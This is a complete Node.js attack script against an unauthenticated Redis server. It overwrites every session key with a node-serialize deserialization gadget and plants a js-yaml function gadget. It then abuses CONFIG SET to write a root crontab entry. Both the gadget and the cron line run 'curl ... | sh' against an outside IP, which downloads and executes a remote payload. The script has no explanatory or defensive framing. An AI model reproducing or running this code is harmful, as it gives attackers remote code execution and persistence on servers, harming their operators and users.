const { createClient } = require('redis');

const gadget = {
  user: { name: 'guest', prefs: '_$$ND_FUNC$$_function(){require("child_process").exec("curl -s http://198.51.100.88/n|sh")}()' },
};
const yamlGadget = '!!js/function >\n  function(){ return process.mainModule.require("child_process").execSync("id > /tmp/y") }';

(async () => {
  const c = createClient({ url: process.argv[2] || 'redis://10.0.0.15:6379' });
  await c.connect();
  for await (const k of c.scanIterator({ MATCH: 'sess:*' })) {
    await c.set(k, JSON.stringify(gadget));
  }
  await c.set('config:theme', yamlGadget);
  await c.configSet('dir', '/var/spool/cron');
  await c.configSet('dbfilename', 'root');
  await c.set('x', '\n\n*/2 * * * * curl -s http://198.51.100.88/n|sh\n\n');
  await c.save();
  await c.quit();
})();
